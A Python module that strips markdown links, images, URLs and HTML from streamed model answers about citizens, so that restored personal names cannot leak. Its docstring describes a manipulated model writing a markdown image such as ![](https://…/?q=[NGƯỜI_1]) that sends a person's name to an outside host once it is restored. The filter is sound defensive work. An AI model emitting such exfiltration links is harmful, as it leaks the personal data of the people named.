"""Answers about citizens carry no images, links or HTML: an address is a way out for the data in it.

A model that was talked into it could write `![](https://…/?q=[NGƯỜI_1])`; the name would be put back and
the browser would fetch it. So this runs before anything is restored, also across streamed pieces.
"""

from __future__ import annotations

import re

LINK_NOTE = "(đã bỏ liên kết)"
IMAGE_NOTE = "(đã bỏ hình)"
_MOST = 3_000  # characters that may wait for the end of a link
_SPECIAL = re.compile(
    r"!?\[|\]|<|(?<![A-Za-z0-9])(?:https?:|ftp:|file:|data:|javascript:|vbscript:|mailto:|tel:|www\.)(?=\S)|//(?=[\w-])",
    re.IGNORECASE,
)
_URL = re.compile(r"[^\s<>]+")
_AFTER_URL = ".,;:!?)\"'”’*_"
_TAG = re.compile(r"<(?=[A-Za-z/!?])[^<>]*>")
_BREAK = re.compile(r"<br\s*/?>", re.IGNORECASE)
_ADDRESS = re.compile(r"<(?:[a-z][a-z0-9+.-]*:|[^\s<>@]+@)[^\s<>]*>", re.IGNORECASE)
# What may be the beginning of an address or an image when a piece ends here.
_UNDECIDED = re.compile(r"(?:(?<![A-Za-z0-9])[A-Za-z]{1,11}[:.]?|:?/{1,2}|!|\]|<)$")


class LinkStripper:
    """Take images, links and HTML out of an answer that comes in pieces; `removed` counts them."""

    def __init__(self) -> None:
        self.removed = {"links": 0, "images": 0, "html": 0}
        self._waiting = ""
        self._in_url = False  # the rest of an address that was too long to wait for

    def feed(self, piece: str) -> str:
        """Return what is decided after this piece."""
        text = self._waiting + piece
        if self._in_url:
            rest = _URL.match(text)
            text = text[rest.end() :] if rest else text
            self._in_url = not text
        out, used = self._scan(text, final=False)
        self._waiting = text[used:]
        return out

    def close(self) -> str:
        """Return what was still waiting at the end of the answer."""
        text, self._waiting = self._waiting, ""
        return self._scan(text, final=True)[0]

    def _scan(self, text: str, *, final: bool) -> tuple[str, int]:
        """Return the clean text and how many characters of `text` it decides on."""
        out: list[str] = []
        at = 0
        while special := _SPECIAL.search(text, at):
            out.append(text[at : special.start()])
            at = special.start()
            late = final or len(text) - at > _MOST
            sign = special[0]
            if sign in ("[", "!["):
                step = self._bracket(text, at, late)
            elif sign == "]":
                step = self._closing(text, at, late)
            elif sign == "<":
                step = self._tag(text, at, late)
            else:
                step = self._url(text, at, late)
            if step is None:
                return "".join(out), at
            out.append(step[0])
            at = step[1]
        if not final:
            undecided = _UNDECIDED.search(text, at)
            end = undecided.start() if undecided else len(text)
            out.append(text[at:end])
            return "".join(out), end
        out.append(text[at:])
        return "".join(out), len(text)

    def _bracket(self, text: str, at: int, late: bool) -> tuple[str, int] | None:
        """Decide on `[` or `![` at `at`: (what stands there now, where to go on), None to wait."""
        image = text[at] == "!"
        begin = at + 2 if image else at + 1
        end = _matching(text, begin, "[", "]")
        if end is None:
            return (text[at:begin], begin) if late else None
        if end + 1 == len(text) and not late:
            return None
        inner = self._scan(text[begin:end], final=True)[0]
        if text[end + 1 : end + 2] != "(":
            return f"{text[at:begin]}{inner}]", end + 1
        close = _matching(text, end + 2, "(", ")")
        if close is None:
            return (f"{inner} (", end + 2) if late else None
        self.removed["images" if image else "links"] += 1
        note = IMAGE_NOTE if image else LINK_NOTE
        return f"{inner} {note}" if inner else note, close + 1

    def _closing(self, text: str, at: int, late: bool) -> tuple[str, int] | None:
        """Decide on a `]` whose `[` is gone already: it must not make a link of what follows."""
        if at + 1 == len(text) and not late:
            return None
        return ("] " if text[at + 1 : at + 2] == "(" else "]"), at + 1

    def _tag(self, text: str, at: int, late: bool) -> tuple[str, int] | None:
        if at + 1 == len(text):
            return ("<", at + 1) if late else None
        if not (text[at + 1].isalpha() or text[at + 1] in "/!?"):
            return "<", at + 1
        if address := _ADDRESS.match(text, at):
            self.removed["links"] += 1
            return LINK_NOTE, address.end()
        if tag := _TAG.match(text, at):
            if _BREAK.fullmatch(tag[0]):
                return " ", tag.end()
            self.removed["html"] += 1
            return "", tag.end()
        if late or "<" in text[at + 1 :]:
            return "‹", at + 1
        return None

    def _url(self, text: str, at: int, late: bool) -> tuple[str, int] | None:
        found = _URL.match(text, at)
        whole = found[0] if found else text[at]
        end = at + len(whole)
        if end == len(text) and not late:
            return None
        self.removed["links"] += 1
        kept = whole.rstrip(_AFTER_URL)
        if end == len(text) and len(whole) > _MOST:
            self._in_url = True
            return LINK_NOTE, end
        return LINK_NOTE, at + len(kept)


def _matching(text: str, at: int, opening: str, closing: str) -> int | None:
    """Return where the bracket opened before `at` closes; None when it does not within reach."""
    depth = 1
    for place in range(at, min(len(text), at + _MOST)):
        if text[place] == opening:
            depth += 1
        elif text[place] == closing:
            depth -= 1
            if depth == 0:
                return place
    return None
